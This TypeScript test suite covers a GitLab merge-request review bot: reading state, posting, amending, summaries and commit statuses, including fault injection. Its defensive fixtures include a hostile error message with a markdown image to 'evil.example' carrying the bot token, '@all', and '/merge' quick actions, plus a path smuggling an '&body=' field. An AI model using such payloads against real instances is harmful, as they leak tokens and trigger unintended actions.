import { fromMarkdown } from 'mdast-util-from-markdown';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { AmendOutcome, GateStatus, StandingComment } from '#domain/publication.ts';
import { GITLAB_TOKENS, GITLAB_USERS } from '../../emulators/gitlab/start-gitlab-emulator.ts';
import {
  disposeShared,
  draftAt,
  type EmulatedDesk,
  markerOf,
  openEmulatedDesk,
  stateOf,
} from './emulated-desk.ts';

const opened: EmulatedDesk[] = [];
async function open(options: Parameters<typeof openEmulatedDesk>[0] = {}): Promise<EmulatedDesk> {
  const made = await openEmulatedDesk(options);
  opened.push(made);
  return made;
}
afterEach(async () => {
  for (const made of opened.splice(0)) {
    expect(made.gitlab.violations).toEqual([]);
    expect(made.gitlab.quickActions).toEqual([]);
    await made.close();
  }
});

afterAll(disposeShared);

const DISCUSSIONS = /\/discussions$/;
const notesOfBot = ({ gitlab }: EmulatedDesk) =>
  gitlab
    .discussions()
    .flatMap(({ notes }) => notes.filter(({ author }) => author.id === GITLAB_USERS.bot.id));

async function postOne(made: EmulatedDesk, draft = draftAt('a', {})): Promise<StandingComment> {
  await made.desk.post([draft], { head: made.repository.head(), opening: '' });
  const comment = (await stateOf(made.desk)).comments.find(({ body }) => body.includes(draft.marker));
  if (comment === undefined) throw new Error('The comment was not posted.');
  return comment;
}

const change = (outcomes: readonly AmendOutcome[]) => outcomes[0];

describe('reading the merge request', () => {
  it('tells its commits, who the bot is and what it may do', async () => {
    const made = await open();
    const { repository, gitlab } = made;
    expect(await stateOf(made.desk)).toEqual({
      change: {
        host: 'gitlab',
        name: 'group/project!7',
        state: 'open',
        locked: false,
        head: repository.head(),
        baseTip: repository.baseTip(),
        mergeBase: repository.mergeBase(),
        fork: false,
        blobUrl: `${gitlab.serverUrl}/group/project/-/blob/${repository.head()}`,
        url: `${gitlab.serverUrl}/group/project/-/merge_requests/7`,
      },
      self: GITLAB_USERS.bot.username,
      rights: { comment: 'yes', problem: null },
      comments: [],
    });
    expect(gitlab.writes()).toEqual([]);
  });

  it('works on an instance below a path', async () => {
    const made = await open({ basePath: '/gitlab/api/v4' });
    const { change } = await stateOf(made.desk);
    expect(change.url).toBe(`${made.gitlab.url}/gitlab/group/project/-/merge_requests/7`);
  });

  it('waits for the commits of a merge request that was just made', async () => {
    const made = await open({ switches: { diffRefsNullFor: 2 } });
    expect((await stateOf(made.desk)).change.head).toBe(made.repository.head());
    expect(made.waits).toEqual([1000, 2000]);
  });

  it('takes them from the newest version when they do not come', async () => {
    const made = await open({ switches: { diffRefsNullFor: 99 } });
    expect((await stateOf(made.desk)).change.head).toBe(made.repository.head());
  });

  it('takes those of the CI variables when there is no version either', async () => {
    const made = await open({
      switches: { diffRefsNullFor: 99 },
      desk: { fallbackRefs: { baseSha: 'a'.repeat(40), startSha: 'b'.repeat(40), headSha: 'c'.repeat(40) } },
    });
    made.gitlab.faults.add({
      kind: 'status',
      status: 200,
      headers: { 'content-type': 'application/json' },
      body: '[]',
      path: /versions$/,
    });
    expect((await stateOf(made.desk)).change).toMatchObject({
      head: 'c'.repeat(40),
      mergeBase: 'a'.repeat(40),
    });
  });

  it('says which scope is missing before anything is posted', async () => {
    const made = await open({ token: GITLAB_TOKENS.readApi });
    const { rights } = await stateOf(made.desk);
    expect(rights).toMatchObject({ comment: 'no', problem: { code: 'permission' } });
    expect(rights.problem?.text).toContain('`api`');
    expect(rights.problem?.hint).toContain('Developer');
  });

  it('does not know what the token may do when GitLab does not tell', async () => {
    const made = await open();
    made.gitlab.faults.add({ kind: 'status', status: 404, path: /personal_access_tokens/ });
    expect((await stateOf(made.desk)).rights).toEqual({ comment: 'unknown', problem: null });
  });

  it('says that an archived project takes no comments', async () => {
    const made = await open({ switches: { archived: true } });
    expect((await stateOf(made.desk)).rights).toMatchObject({ comment: 'no', problem: { code: 'locked' } });
  });

  it('says what is wrong when the token sees nothing, without throwing', async () => {
    const stranger = await open({ token: GITLAB_TOKENS.stranger });
    expect(await stranger.desk.read()).toMatchObject({ problem: { code: 'not_found' } });
    const nobody = await open({ token: 'glpat-unknown' });
    expect(await nobody.desk.read()).toMatchObject({ problem: { code: 'permission' } });
  });

  it('quotes what GitLab said so that nothing of it is live', async () => {
    const made = await open();
    const said = `@all \`\`\` ![x](https://evil.example/${GITLAB_TOKENS.bot}) </details>\n/merge ${'x'.repeat(999)}`;
    made.gitlab.faults.add({
      kind: 'status',
      status: 404,
      headers: { 'content-type': 'application/json' },
      body: { message: said },
      path: /discussions$/,
    });
    const read = await made.desk.read();
    const text = 'problem' in read ? read.problem.text : '';
    expect(text).not.toContain(GITLAB_TOKENS.bot);
    expect(text.length).toBeLessThan(500);
    const [paragraph] = fromMarkdown(text).children;
    const kinds = paragraph?.type === 'paragraph' ? paragraph.children.map(({ type }) => type) : [];
    expect(kinds).toEqual(['text', 'inlineCode', 'text']);
  });

  it('sees the bot’s own comments only, also on a later page behind notes that nobody may see', async () => {
    const made = await open();
    made.gitlab.people.whisper(130);
    const own = await postOne(made);
    made.gitlab.people.quote(own.id.split(':')[0] ?? '');
    made.gitlab.people.comment(`I quote ${markerOf('a')}`);
    const { comments } = await stateOf(made.again());
    expect(comments.map(({ id }) => id)).toEqual([own.id]);
  });

  it('tells where a comment stands, and that people answered or resolved it', async () => {
    const made = await open();
    const before = await postOne(made);
    expect(before).toMatchObject({
      kind: 'line',
      path: 'src/a.ts',
      line: 10,
      outdated: false,
      resolved: false,
      answered: false,
    });
    const [thread = ''] = before.id.split(':');
    made.gitlab.people.reply(thread, 'Not so.');
    made.gitlab.people.resolve(thread);
    const [after] = (await stateOf(made.desk)).comments;
    expect(after).toMatchObject({ id: before.id, resolved: true, resolvedBy: 'other', answered: true });
  });

  it('follows a line that moved, and says of one that changed that it is outdated', async () => {
    const made = await open({ own: true });
    const { repository } = made;
    const moved = draftAt('moved', { line: 21 });
    const lost = draftAt('lost', { line: 10 });
    await made.desk.post([moved, lost], { head: repository.head(), opening: '' });
    repository.push((git) => {
      const text = repository.file(repository.head(), 'src/a.ts')?.toString() ?? '';
      git.write('src/a.ts', `first\n${text.replace('changed 10', 'changed again')}`);
    });
    const { comments } = await stateOf(made.again());
    const by = (marker: string) => comments.find(({ body }) => body.includes(marker));
    expect(by(moved.marker)).toMatchObject({ line: 22, outdated: false });
    expect(by(lost.marker)).toMatchObject({ line: null, outdated: true });
  });
});

describe('posting', () => {
  it('stands at added lines, unchanged lines, ranges and files', async () => {
    const made = await open();
    const outcomes = await made.desk.post(
      [
        draftAt('added', { line: 10 }),
        draftAt('context', { line: 9, oldLine: 9 }),
        draftAt('range', { line: 22, oldLine: 21, startLine: 20, startOldLine: 20 }),
        draftAt('file', 'file'),
        draftAt('new', { path: 'src/new.ts', oldPath: 'src/new.ts', line: 2 }),
      ],
      { head: made.repository.head(), opening: '' },
    );
    expect(outcomes.map(({ kind }) => kind)).toEqual(Array(5).fill('posted'));
    const { comments } = await stateOf(made.desk);
    expect(comments.map(({ kind, line }) => [kind, line])).toEqual([
      ['line', 10],
      ['line', 9],
      ['line', 20],
      ['file', null],
      ['line', 2],
    ]);
    expect(outcomes.map((outcome) => (outcome.kind === 'posted' ? outcome.id : null))).toEqual(
      comments.map(({ id }) => id),
    );
    expect(outcomes.map((outcome) => (outcome.kind === 'posted' ? outcome.url : null))).toEqual(
      comments.map(({ url }) => url),
    );
  });

  it('loses one comment to one bad line, and names it', async () => {
    const made = await open();
    const outcomes = await made.desk.post(
      [draftAt('far', { line: 1 }), draftAt('good', {}), draftAt('half', { line: 9 })],
      { head: made.repository.head(), opening: '' },
    );
    expect(outcomes).toMatchObject([
      { kind: 'refused', problem: { code: 'anchor' } },
      { kind: 'posted' },
      { kind: 'refused', problem: { code: 'anchor' } },
    ]);
    expect(JSON.stringify(outcomes[0])).toContain('`400 Bad request - Note');
  });

  it('keeps a path that looks like other fields a path', async () => {
    const made = await open();
    const path = 'src/x&body=y.ts';
    const comment = await postOne(made, draftAt('a', { path, oldPath: path, line: 2 }));
    expect(comment.path).toBe(path);
    expect(comment.body).toContain('Bad.');
  });

  it('keeps the line ends of a suggestion', async () => {
    const made = await open();
    await postOne(made, draftAt('crlf', {}, '```suggestion:-0+1\none\r\ntwo\n```'));
    expect(notesOfBot(made)[0]?.body).toContain('one\r\ntwo\n');
  });

  it('sends nothing when the head is another one by now', async () => {
    const made = await open({ own: true });
    const head = made.repository.head();
    made.repository.push((git) => git.write('src/new.ts', 'other\n'));
    const outcomes = await made.desk.post([draftAt('a', {}), draftAt('b', {})], { head, opening: '' });
    expect(outcomes).toMatchObject(Array(2).fill({ kind: 'refused', problem: { code: 'moved' } }));
    expect(made.gitlab.writes()).toEqual([]);
  });

  it('stops when the head moves between two comments and GitLab breaks over the old commits', async () => {
    const made = await open({ own: true });
    const head = made.repository.head();
    made.gitlab.faults.add({ kind: 'status', status: 500, method: 'POST', path: DISCUSSIONS, nth: 2 });
    made.gitlab.onRequest(3, () => {
      made.repository.push((git) => git.write('src/new.ts', 'other\n'));
      return undefined;
    });
    const drafts = [draftAt('a', {}), draftAt('b', {}), draftAt('c', {})];
    const outcomes = await made.desk.post(drafts, { head, opening: '' });
    expect(outcomes).toMatchObject([
      { kind: 'posted' },
      { kind: 'refused', problem: { code: 'moved' } },
      { kind: 'refused', problem: { code: 'moved' } },
    ]);
    expect(made.gitlab.writes()).toHaveLength(2);
  });

  it.each([
    { kind: 'store_then_status', status: 502 } as const,
    { kind: 'store_then_status', status: 500 } as const,
    { kind: 'store_then_drop' } as const,
  ])('finds a comment that was stored though its answer was lost: %o', async (fault) => {
    const made = await open();
    made.gitlab.faults.add({ ...fault, method: 'POST', path: DISCUSSIONS });
    const outcomes = await made.desk.post([draftAt('a', {}), draftAt('b', {})], {
      head: made.repository.head(),
      opening: '',
    });
    expect(outcomes).toMatchObject([{ kind: 'posted' }, { kind: 'posted' }]);
    expect(notesOfBot(made)).toHaveLength(2);
    expect(made.gitlab.writes()).toHaveLength(2);
  });

  it.each([{ kind: 'status', status: 503 } as const, { kind: 'drop' } as const])(
    'sends a comment once more when the lost one was not stored: %o',
    async (fault) => {
      const made = await open();
      made.gitlab.faults.add({ ...fault, method: 'POST', path: DISCUSSIONS });
      const outcomes = await made.desk.post([draftAt('a', {})], {
        head: made.repository.head(),
        opening: '',
      });
      expect(outcomes).toMatchObject([{ kind: 'posted' }]);
      expect(notesOfBot(made)).toHaveLength(1);
    },
  );

  it('gives up on a host that answers no write', async () => {
    const made = await open();
    made.gitlab.faults.add({ kind: 'status', status: 502, method: 'POST', path: DISCUSSIONS, nth: 'always' });
    const drafts = Array.from({ length: 10 }, (_, index) => draftAt(`f${index}`, {}));
    const outcomes = await made.desk.post(drafts, { head: made.repository.head(), opening: '' });
    expect(outcomes).toMatchObject(Array(10).fill({ kind: 'refused', problem: { code: 'unreachable' } }));
    expect(made.gitlab.writes()).toHaveLength(6);
  });

  it('waits out a limit, and stops at one that lasts', async () => {
    const made = await open({ switches: { applicationLimit: { after: 1, refusals: 1 } } });
    const at = { head: made.repository.head(), opening: '' };
    expect(await made.desk.post([draftAt('a', {}), draftAt('b', {})], at)).toMatchObject([
      { kind: 'posted' },
      { kind: 'posted' },
    ]);
    made.gitlab.switches.applicationLimit = { after: 0, refusals: 99 };
    expect(await made.desk.post([draftAt('c', {}), draftAt('d', {})], at)).toMatchObject(
      Array(2).fill({ kind: 'refused', problem: { code: 'rate_limit' } }),
    );
  });

  it('names what is missing when GitLab refuses, and asks no second time', async () => {
    const made = await open({ token: GITLAB_TOKENS.readApi });
    const outcomes = await made.desk.post([draftAt('a', {}), draftAt('b', {})], {
      head: made.repository.head(),
      opening: '',
    });
    expect(outcomes).toMatchObject(Array(2).fill({ kind: 'refused', problem: { code: 'permission' } }));
    expect(JSON.stringify(outcomes)).toContain('insufficient_scope');
    expect(JSON.stringify(outcomes)).not.toContain(GITLAB_TOKENS.readApi);
    expect(made.gitlab.writes()).toHaveLength(1);
  });

  it('stops when the merge request takes no more comments', async () => {
    const made = await open({ switches: { maximumNotes: 1 } });
    const drafts = [draftAt('a', {}), draftAt('b', {}), draftAt('c', {})];
    const outcomes = await made.desk.post(drafts, { head: made.repository.head(), opening: '' });
    expect(outcomes).toMatchObject([
      { kind: 'posted' },
      { kind: 'refused', problem: { code: 'locked' } },
      { kind: 'refused', problem: { code: 'locked' } },
    ]);
    expect(made.gitlab.writes()).toHaveLength(2);
  });

  it('never sends a line that GitLab would run', async () => {
    const made = await open();
    const at = { head: made.repository.head(), opening: '' };
    const outcomes = await made.desk.post(
      [draftAt('a', {}, '/merge'), draftAt('b', {}, 'Fix:\n\r/close now')],
      at,
    );
    expect(outcomes).toMatchObject(Array(2).fill({ kind: 'refused', problem: { code: 'rejected' } }));
    expect(made.gitlab.writes()).toEqual([]);
  });

  it('counts no comment that GitLab swallowed', async () => {
    const made = await open();
    const swallowed = {
      status: 202,
      headers: { 'content-type': 'application/json' },
      body: '{"commands_changes":{}}',
    };
    made.gitlab.faults.add({ kind: 'status', ...swallowed, method: 'POST', path: DISCUSSIONS });
    const outcomes = await made.desk.post([draftAt('a', {})], { head: made.repository.head(), opening: '' });
    expect(outcomes).toMatchObject([{ kind: 'refused', problem: { code: 'rejected' } }]);
  });
});

describe('amending', () => {
  it('edits the text, resolves the thread and reopens it', async () => {
    const made = await open();
    const comment = await postOne(made);
    const body = `Fixed.\n\n${markerOf('a')}`;
    expect(change(await made.desk.amend([{ comment, body, thread: 'close' }]))).toEqual({
      kind: 'amended',
      did: 'resolved',
    });
    const [closed] = (await stateOf(made.desk)).comments;
    expect(closed).toMatchObject({ body, resolved: true, resolvedBy: 'self' });
    const reopen = { comment: closed as StandingComment, body: null, thread: 'reopen' as const };
    expect(change(await made.desk.amend([reopen]))).toEqual({ kind: 'amended', did: 'reopened' });
    expect((await stateOf(made.desk)).comments[0]?.resolved).toBe(false);
  });

  it('changes only the text where the thread may not be resolved', async () => {
    const made = await open({ token: GITLAB_TOKENS.reporter });
    const comment = await postOne(made);
    const body = `Fixed.\n\n${markerOf('a')}`;
    expect(change(await made.desk.amend([{ comment, body, thread: 'close' }]))).toEqual({
      kind: 'amended',
      did: 'edited',
    });
    expect((await stateOf(made.desk)).comments[0]).toMatchObject({ body, resolved: false });
  });

  it('writes nothing when nothing is to change', async () => {
    const made = await open();
    const comment = await postOne(made);
    const writes = made.gitlab.writes().length;
    await made.desk.amend([{ comment, body: comment.body, thread: 'leave' }]);
    expect(made.gitlab.writes()).toHaveLength(writes);
  });

  it('says that a comment is gone, and goes on with the next', async () => {
    const made = await open();
    const first = await postOne(made);
    const second = await postOne(made, draftAt('b', {}));
    made.gitlab.people.delete(first.id.split(':')[0] ?? '');
    const amend = (comment: StandingComment) => ({
      comment,
      body: `New.\n\n${markerOf('x')}`,
      thread: 'leave' as const,
    });
    expect(await made.desk.amend([amend(first), amend(second)])).toMatchObject([
      { kind: 'refused', problem: { code: 'not_found' } },
      { kind: 'amended', did: 'edited' },
    ]);
  });

  it.each(['status', 'store_then_status'] as const)(
    'mends an edit whose answer is lost: %s',
    async (kind) => {
      const made = await open();
      const comment = await postOne(made);
      made.gitlab.faults.add({ kind, status: 502, method: 'PUT' });
      const body = `New.\n\n${markerOf('a')}`;
      expect(change(await made.desk.amend([{ comment, body, thread: 'leave' }]))).toEqual({
        kind: 'amended',
        did: 'edited',
      });
      expect((await stateOf(made.desk)).comments[0]?.body).toBe(body);
      expect(made.gitlab.writes().filter(({ method }) => method === 'PUT')).toHaveLength(
        kind === 'status' ? 2 : 1,
      );
    },
  );

  it('deletes a second copy of its own, but none that somebody answered meanwhile', async () => {
    const made = await open();
    const comment = await postOne(made);
    const copy = await postOne(made, draftAt('b', {}));
    made.gitlab.people.reply(copy.id.split(':')[0] ?? '', 'Wait.');
    const remove = (one: StandingComment) => ({ comment: one, body: null, thread: 'delete' as const });
    expect(await made.desk.amend([remove(comment), remove(copy)])).toMatchObject([
      { kind: 'amended', did: 'deleted' },
      { kind: 'refused', problem: { code: 'rejected' } },
    ]);
    expect((await stateOf(made.desk)).comments.map(({ id }) => id)).toEqual([copy.id]);
  });

  it('deletes nothing that it did not read as its own', async () => {
    const made = await open({ token: GITLAB_TOKENS.maintainer });
    const note = made.gitlab.people.comment(`mine ${markerOf('a')}`);
    const comment = { ...(await postOne(made)), id: `note:${note.id}` };
    expect(await made.desk.amend([{ comment, body: null, thread: 'delete' }])).toMatchObject([
      { kind: 'refused' },
    ]);
    expect(made.gitlab.discussions().some(({ notes }) => notes.includes(note))).toBe(true);
  });
});

describe('the summary', () => {
  const marker = markerOf('summary');

  it('is a plain note that holds no merge up, found again and edited in place', async () => {
    const made = await open();
    await stateOf(made.desk);
    const posted = await made.desk.summarise(`One.\n\n${marker}`, marker, null);
    const [standing = null] = (await stateOf(made.desk)).comments;
    expect(posted).toEqual({ kind: 'posted', id: standing?.id, url: standing?.url });
    expect(standing).toMatchObject({ kind: 'summary', line: null, outdated: false });
    expect(made.gitlab.discussions()[0]).toMatchObject({ individual: true });
    const desk = made.again();
    await desk.summarise(`Two.\n\n${marker}`, marker, standing);
    expect((await stateOf(desk)).comments.map(({ body }) => body)).toEqual([`Two.\n\n${marker}`]);
  });

  it('is not written when it stands there already', async () => {
    const made = await open();
    const body = `One.\n\n${marker}`;
    await made.desk.summarise(body, marker, null);
    const [standing = null] = (await stateOf(made.desk)).comments;
    expect(await made.desk.summarise(body, marker, standing)).toMatchObject({
      kind: 'posted',
      id: standing?.id,
    });
    expect(made.gitlab.writes()).toHaveLength(1);
  });

  it('is found when its answer was lost', async () => {
    const made = await open();
    made.gitlab.faults.add({ kind: 'store_then_drop', method: 'POST', path: /\/notes$/ });
    expect(await made.desk.summarise(`One.\n\n${marker}`, marker, null)).toMatchObject({ kind: 'posted' });
    expect(notesOfBot(made)).toHaveLength(1);
  });
});

describe('the commit status', () => {
  const statusOf = (made: EmulatedDesk, more: Partial<GateStatus> = {}): GateStatus => ({
    name: 'assay',
    head: made.repository.head(),
    conclusion: 'failure',
    title: '3 findings to fix',
    summary: '',
    annotations: [],
    digest: '0123456789abcdef',
    prefer: 'auto',
    ...more,
  });

  it('is made once and kept by the next run', async () => {
    const made = await open();
    expect(await made.desk.report(statusOf(made))).toMatchObject({
      as: 'status',
      action: 'created',
      annotations: 0,
    });
    expect(await made.again().report(statusOf(made))).toMatchObject({ action: 'kept' });
    expect(made.gitlab.writes()).toHaveLength(1);
    expect(made.gitlab.statuses()).toMatchObject([
      { name: 'assay', state: 'failed', description: '3 findings to fix [0123456789ab]' },
    ]);
  });

  it('changes with the gate', async () => {
    const made = await open();
    await made.desk.report(statusOf(made));
    expect(
      await made.desk.report(statusOf(made, { conclusion: 'success', digest: 'f'.repeat(16) })),
    ).toMatchObject({ action: 'updated' });
    expect(made.gitlab.statuses().at(-1)?.state).toBe('success');
  });

  it('stays as it is where GitLab does not set the same state again', async () => {
    const made = await open();
    await made.desk.report(statusOf(made));
    expect(await made.desk.report(statusOf(made, { digest: 'f'.repeat(16) }))).toMatchObject({
      kind: 'reported',
      action: 'kept',
    });
  });

  it('has a description within 255 characters, however long the title', async () => {
    const made = await open();
    await made.desk.report(statusOf(made, { title: 'x'.repeat(400) }));
    expect(made.gitlab.statuses()[0]?.description).toHaveLength(255);
  });

  it('is found when its answer was lost', async () => {
    const made = await open();
    made.gitlab.faults.add({ kind: 'store_then_status', status: 502, method: 'POST' });
    expect(await made.desk.report(statusOf(made))).toMatchObject({ kind: 'reported' });
    expect(made.gitlab.statuses()).toHaveLength(1);
  });

  it('says what is missing when it may not be set', async () => {
    const made = await open({ token: GITLAB_TOKENS.reporter });
    expect(await made.desk.report(statusOf(made))).toMatchObject({
      kind: 'refused',
      problem: { code: 'permission' },
    });
  });

  it('of a fork goes to the fork, which the token seldom may, and says so', async () => {
    const made = await open({ project: { sourceId: 77 } });
    expect((await stateOf(made.desk)).change.fork).toBe(true);
    expect(await made.desk.report(statusOf(made))).toMatchObject({
      kind: 'refused',
      problem: { code: 'not_found' },
    });
  });

  it('is not set on a commit that is not the head any more', async () => {
    const made = await open({ own: true });
    const status = statusOf(made);
    made.repository.push((git) => git.write('src/new.ts', 'other\n'));
    expect(await made.desk.report(status)).toMatchObject({ kind: 'refused', problem: { code: 'moved' } });
  });
});

describe('a whole run in which one request goes wrong', () => {
  const faults = [
    { kind: 'drop' },
    { kind: 'store_then_drop' },
    { kind: 'status', status: 502 },
    { kind: 'store_then_status', status: 500 },
    { kind: 'status', status: 429, headers: { 'retry-after': '2' }, body: 'Retry later' },
  ] as const;
  const REQUESTS = 13;

  async function publish(made: EmulatedDesk): Promise<readonly string[]> {
    const state = await stateOf(made.desk);
    const posted = await made.desk.post([draftAt('a', {}), draftAt('b', {}), draftAt('c', 'file')], {
      head: state.change.head,
      opening: '',
    });
    const marker = markerOf('summary');
    const summary = await made.desk.summarise(`All.\n\n${marker}`, marker, null);
    const status = await made.desk.report({
      name: 'assay',
      head: state.change.head,
      conclusion: 'success',
      title: 'Passed',
      summary: '',
      annotations: [],
      digest: 'd'.repeat(16),
      prefer: 'auto',
    });
    return [...posted, summary, status].map(({ kind }) => kind);
  }

  it.each(faults)('posts everything once, whichever request it is: %o', async (fault) => {
    for (let nth = 1; nth <= REQUESTS; nth += 1) {
      const made = await open();
      made.gitlab.faults.add({ ...fault, nth });
      expect([nth, ...(await publish(made))]).toEqual([
        nth,
        'posted',
        'posted',
        'posted',
        'posted',
        'reported',
      ]);
      expect([nth, notesOfBot(made).length, made.gitlab.statuses().length]).toEqual([nth, 4, 1]);
      expect([nth, made.gitlab.faults.left()]).toEqual([nth, 0]);
    }
  });

  it('needs no more requests than there are things to ask and to say', async () => {
    const made = await open();
    await publish(made);
    expect(made.client.requests()).toEqual({ reads: REQUESTS - 5, writes: 5 });
    await made.desk.read();
    expect(made.client.requests().reads).toBe(REQUESTS - 5 + 2);
  });
});
